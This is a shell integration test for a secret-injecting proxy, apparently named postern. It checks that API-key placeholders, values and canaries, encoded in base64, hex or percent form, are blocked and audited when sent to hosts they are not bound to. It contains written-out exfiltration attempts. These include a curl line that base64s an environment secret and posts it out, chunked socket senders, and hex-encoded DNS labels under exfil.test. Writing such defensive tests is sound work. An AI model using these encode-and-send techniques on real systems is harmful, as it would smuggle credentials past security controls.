#!/bin/sh
# secret-encoded: a session's placeholder and its secret's value, encoded
# (base64, base64url, hex, percent-escaped byte by byte), may not leave for
# a host the secret is not bound to: in the query, a header or a POST body
# (Content-Length, and chunked with the needle split over two chunks sent
# apart) they are refused with secret_misdirected, audited with where and
# in which encoding and without the value; a body is cut (the upstream
# never gets it whole).  The same to the bound host, through the
# terminated tunnel, go.  A canary (canaries =) reaches the sandbox with
# the placeholders; sent base64'd in a body to the bound host it is cut,
# with an alert line and postern_canary_total.  A CONNECT whose host name
# spells the placeholder in hex labels is refused.  Through README's
# bwrap recipe (postern-bridge on the session's UNIX socket, as uid 1000)
# and inside `postern-sidecar run --secret`, curl posting the placeholder
# from its environment base64'd to a host its secret is not bound to is
# cut, and the same request without it goes.
. "$top_srcdir/tests/integration/lib/world.sh"
. "$top_srcdir/tests/integration/lib/recipe.sh"
world_up
recipe_dir
world_cleanup_hook() { rm -rf "$RECIPE_DIR"; }
. "$top_srcdir/tests/integration/lib-admin/admin.sh"

VALUE="tsk-$(od -An -N20 -tx1 /dev/urandom | tr -d ' \n')"
export PX_TEST_KEY="$VALUE"
state="$WORLD_DIR/state"
mkdir -p "$state"
chmod 700 "$state"
conf="$WORLD_DIR/postern.ini"
{
	admin_proxy_section "upstream_ca_file = $WORLD_CA" "state_dir = $state" \
		"listen = unix:$RECIPE_DIR/s1/proxy.sock mode=666"
	cat <<-EOF
		[defaults]
		allow_hosts = allowed.test private, other.test private, *.exfil.test private
		secrets = k
		canaries = DECOY_KEY
		[secret k]
		from_env = PX_TEST_KEY
		inject = allowed.test header x-api-key
	EOF
} >"$conf"
proxy_start "$conf" || die "no proxy"
admin_wait || die "no admin socket"
CA="$state/ca/default.pem"

sess=$(in_px curl -sS --max-time 5 http://127.0.0.1:3128/.well-known/postern/session)
PH=$(printf '%s\n' "$sess" | sed -n 's/^env PX_TEST_KEY //p')
CANARY=$(printf '%s\n' "$sess" | sed -n 's/^env DECOY_KEY //p')
[ -n "$PH" ] || die "no placeholder"
expect_match '^sk-ant-api03-[A-Za-z0-9]{95}$' "$CANARY" "the canary reaches the sandbox, shaped like a key"

# enc FORM TEXT: TEXT encoded (base64 with its '+' '/' '=' kept).
enc() {
	"$WORLD_PYTHON" -c '
import base64, binascii, sys
f, t = sys.argv[1], sys.argv[2].encode()
if f == "base64": print(base64.b64encode(b"xy" + t).decode())
elif f == "base64url": print(base64.urlsafe_b64encode(b"z" + t).decode().rstrip("="))
elif f == "hex": print(binascii.hexlify(t).decode())
elif f == "HEX": print(binascii.hexlify(t).decode().upper())
elif f == "percent": print("".join("%%%02X" % c for c in t))
elif f == "labels":
    h = binascii.hexlify(t).decode()
    print(".".join(h[i:i + 40] for i in range(0, len(h), 40)))
' "$1" "$2"
}
px() { curl_px -x http://127.0.0.1:3128 "$@"; }
pstatus() { px -o /dev/null -w '%{http_code}' "$@" 2>/dev/null; }
# no_secret_logged: neither the value nor the placeholder, in any form
# sent, is in the audit log or the proxy's output.
no_secret_logged() {
	local f n
	for f in base64 base64url hex percent; do
		for n in "$VALUE" "$PH" "$CANARY"; do
			e=$(enc $f "$n" | cut -c 5-24)
			if grep -qF -- "$e" "$PROXY_LOG" "$WORLD_DIR/proxy.out"; then
				fail "a $f form is in the log"
				return
			fi
		done
	done
	grep -qF -- "$VALUE" "$PROXY_LOG" "$WORLD_DIR/proxy.out" && { fail "the value is in the log"; return; }
	grep -qF -- "$CANARY" "$PROXY_LOG" "$WORLD_DIR/proxy.out" && { fail "the canary is in the log"; return; }
	ok "no value, placeholder or canary, in any form, is in the log"
}

# 1. The raw placeholder to an unbound host: as before.
expect_eq 403 "$(pstatus "http://other.test/raw?k=$PH")" "a raw placeholder in the query: 403"
expect_audit "audited as before" path~^/raw reason=secret_misdirected \
	detail~"^the request carries the placeholder of secret k, which may be sent only"

# 2. Encoded in the query, and in a header.
for f in base64 base64url hex HEX percent; do
	for what in PH VALUE; do
		eval "n=\$$what"
		e=$(enc $f "$n")
		q=$(printf '%s' "$e" | sed 's/+/%2B/g; s|/|%2F|g; s/=/%3D/g')
		[ $f = percent ] && q=$e
		expect_eq 403 "$(pstatus "http://other.test/q-$f-$what?x=$q")" \
			"$what as $f in the query to an unbound host: 403"
		case $f in HEX) ef=hex ;; *) ef=$f ;; esac
		case $what in PH) kind=placeholder ;; *) kind=value ;; esac
		# A base64url text without '-' or '_' is base64's too.
		case $f in base64) ef2='(percent\+)?base64' ;; base64url) ef2='base64(url)?' ;; *) ef2=$ef ;; esac
		expect_audit "audited: the $kind of k, $ef, in the target" path~^/q-$f-$what \
			reason=secret_misdirected \
			detail~"^the request carries the $kind of secret k \\($ef2, in the target\\)"
		expect_eq 403 "$(pstatus -H "X-Data: $e" "http://other.test/h-$f-$what")" \
			"$what as $f in a header: 403"
		expect_audit "audited: in the header X-Data" path=/h-$f-$what reason=secret_misdirected \
			detail~"\\($ef2, in the header X-Data\\)"
	done
done
expect_eq 0 "$(upstream_count target~^/[qh]-)" "none of them reached the upstream"
expect_eq 1 "$(metrics_get postern_secret_misdirected_total session=default secret=k | cut -d. -f1 |
	awk '{ print ($1 >= 21) }')" "each is counted in postern_secret_misdirected_total"

# 3. A POST body with a Content-Length: cut, the upstream never gets it.
for f in base64 hex percent; do
	body="data=$(enc $f "$PH")&more=1"
	px -o /dev/null --data-binary "$body" "http://other.test/cl-$f" 2>/dev/null
	expect_audit "a $f placeholder in a Content-Length body is cut" event=close \
		why=secret_misdirected detail~"\\($f, in the body\\)"
	expect_eq 0 "$(upstream_count target=/cl-$f body_length=${#body})" \
		"and the upstream never got the whole body"
done

# 4. Chunked, the needle (base64url) split over two chunks and two writes.
E=$(enc base64url "$VALUE")
out=$(in_px env E="$E" "$WORLD_PYTHON" -c '
import os, socket, time
e = os.environ["E"].encode()
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"POST http://other.test/chunked HTTP/1.1\r\nHost: other.test\r\n"
          b"Transfer-Encoding: chunked\r\n\r\n")
half = len(e) // 2
def chunk(b):
    return b"%x\r\n" % len(b) + b + b"\r\n"
s.sendall(chunk(b"v=" + e[:half]))
time.sleep(0.5)
try:
    s.sendall(chunk(e[half:] + b"&tail=1"))
    time.sleep(0.3)
    s.sendall(b"0\r\n\r\n")
    got = s.recv(4096)
except OSError as x:
    got = b""
print("answer:" + (got.split(b"\r\n")[0].decode() if got else "none"))
' 2>&1)
expect_no_match "^answer:HTTP/1.1 200" "$out" "chunked, split over chunks and writes: no 200"
expect_audit "and the cut is audited: the value, base64url, in the body" event=close \
	why=secret_misdirected detail~"^the request carries the value of secret k \\(base64(url)?, in the body\\)"
expect_eq 0 "$(upstream_count target=/chunked body_mode=chunked body_length~^[1-9])" \
	"the upstream never got the chunked body whole"

# 5. The bound host, through the terminated tunnel: the same forms go.
tc() { curl_px -x http://127.0.0.1:3128 --cacert "$CA" "$@"; }
for f in base64 hex percent; do
	e=$(enc $f "$PH")
	q=$(printf '%s' "$e" | sed 's/+/%2B/g; s|/|%2F|g; s/=/%3D/g')
	[ $f = percent ] && q=$e
	expect_eq 200 "$(tc -o /dev/null -w '%{http_code}' "https://allowed.test/ok-$f?x=$q")" \
		"$f placeholder in the query to the bound host: 200"
	expect_eq 200 "$(tc -o /dev/null -w '%{http_code}' --data-binary "d=$e" "https://allowed.test/okb-$f")" \
		"$f placeholder in a body to the bound host: 200"
done

# 6. A canary, base64'd in a body to the bound host: cut, alert, counted.
body="blob=$(enc base64 "$CANARY")"
tc -o /dev/null --data-binary "$body" https://allowed.test/canary 2>/dev/null
expect_audit "a canary in a body to the bound host: an alert line" event=alert kind=canary \
	session=default name=DECOY_KEY where=body encoding=base64 host=allowed.test
expect_audit "and the request is cut" event=close why=secret_misdirected detail~"canary DECOY_KEY"
expect_eq 0 "$(upstream_count target=/canary body_length=${#body})" "the upstream never got it whole"
expect_eq 1 "$(metrics_get postern_canary_total session=default name=DECOY_KEY)" \
	"postern_canary_total counts it"
expect_eq 403 "$(pstatus -H "Authorization: Bearer $CANARY" http://allowed.test/c)" \
	"a raw canary in a header, even to the bound host's name: 403"

# 7. The placeholder in hex labels of a CONNECT host name.
h="$(enc labels "$PH").exfil.test"
expect_eq 403 "$(curl_status -x http://127.0.0.1:3128 "https://$h/")" \
	"a hex placeholder in the CONNECT host name: 403"
expect_audit "audited: in the host name, hex" method=CONNECT reason=secret_misdirected \
	detail~"\\(hex, in the host name\\)"
# The same name in the TLS ClientHello of a tunnel to other.test.
out=$(in_px env H="$h" "$WORLD_PYTHON" -c '
import os, socket, ssl
s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
s.sendall(b"CONNECT other.test:443 HTTP/1.1\r\nHost: other.test:443\r\n\r\n")
buf = b""
while b"\r\n\r\n" not in buf:
    buf += s.recv(4096)
print(buf.split(b"\r\n")[0].decode())
try:
    ssl.create_default_context().wrap_socket(s, server_hostname=os.environ["H"])
    print("handshake")
except Exception:
    print("cut")
' 2>&1)
expect_match "^cut$" "$out" "a hex placeholder in the TLS server_name: the tunnel is cut"
expect_audit "audited: in the host name, hex, at the close" event=close why=secret_misdirected \
	host=other.test detail~"\\(hex, in the host name\\)"

no_secret_logged

# ecurl_cmd TAG: a shell line for CMD: its PX_ variables, then two POSTs
# to other.test: /TAG-plain without the placeholder, /TAG-enc with it
# base64'd; each status is printed.
ecurl_cmd() {
	printf '%s' 'env | grep "^PX_"
		c() { curl -sS --max-time 10 -o /dev/null -w "$1=%{http_code}\n" --data-binary "$2" "http://other.test/$1"; }
		c '"$1"'-plain "data=nothing&more=1"
		c '"$1"'-enc "data=$(printf %s "$PX_TEST_KEY" | base64 -w0)&more=1"'
}
# echeck WHERE TAG OUT: what CMD printed and what the upstream got.
echeck() {
	local ph
	ph=$(printf '%s\n' "$3" | sed -n 's/^PX_TEST_KEY=//p')
	expect_match '.' "$ph" "$1: CMD's PX_TEST_KEY holds a placeholder"
	expect_no_match "$VALUE" "$3" "$1: the value is not in CMD's environment"
	expect_match "^$2-plain=200$" "$3" "$1: the POST without the placeholder: 200"
	expect_upstream "$1: and it reached other.test" target=/$2-plain body_length=19
	expect_no_match "^$2-enc=200$" "$3" "$1: the POST with it base64'd: no 200"
	body="data=$(printf %s "$ph" | base64 -w0)&more=1"
	expect_eq 0 "$(upstream_count target=/$2-enc body_length=${#body})" \
		"$1: the upstream never got that body whole"
}

# 8. README's bwrap recipe, as uid 1000, through postern-bridge on the
# session's UNIX socket; the launcher's environment holds the value.
if recipe_ok; then
	out=$(recipe_run sh -c "$(ecurl_cmd recipe)" 2>"$WORLD_DIR/bwrap.err")
	echeck "bwrap recipe" recipe "$out
$(tail -c 300 "$WORLD_DIR/bwrap.err")"
	expect_audit "bwrap recipe: the cut is audited with the encoding, uid 1000 on the UNIX socket" \
		event=close path=/recipe-enc "peer~^unix:.*uid=1000" why=secret_misdirected \
		detail~"^the request carries the placeholder of secret k \\(base64, in the body\\)"
else
	diag "bwrap, postern-bridge or user namespaces for uid 1000 are missing: the bwrap recipe is not tried"
fi

# 9. Inside postern-sidecar run --secret k, with k bound to allowed.test.
if [ -x "$top_builddir/postern-sidecar" ] && [ -x "$top_builddir/postern-bridge" ]; then
	cat >"$WORLD_DIR/sc.ini" <<-EOF
		[defaults]
		allow_hosts = allowed.test private, other.test private
		[secret k]
		from_env = PX_TEST_KEY
		inject = allowed.test header x-api-key
	EOF
	out=$(in_px env -i PATH=/usr/bin:/bin LANG=C.UTF-8 PX_TEST_KEY="$VALUE" \
		"$top_builddir/postern-sidecar" run --config "$WORLD_DIR/sc.ini" \
		--bridge "$RECIPE_DIR/postern-bridge" --secret k -- sh -c "$(ecurl_cmd sidecar)" \
		</dev/null 2>"$WORLD_DIR/sc.err")
	echeck "sidecar run" sidecar "$out
$(tail -c 300 "$WORLD_DIR/sc.err")"
else
	diag "postern-sidecar or postern-bridge is not built: the sidecar run is not tried"
fi
proxy_stop
expect_eq 0 $? "the proxy exits cleanly"
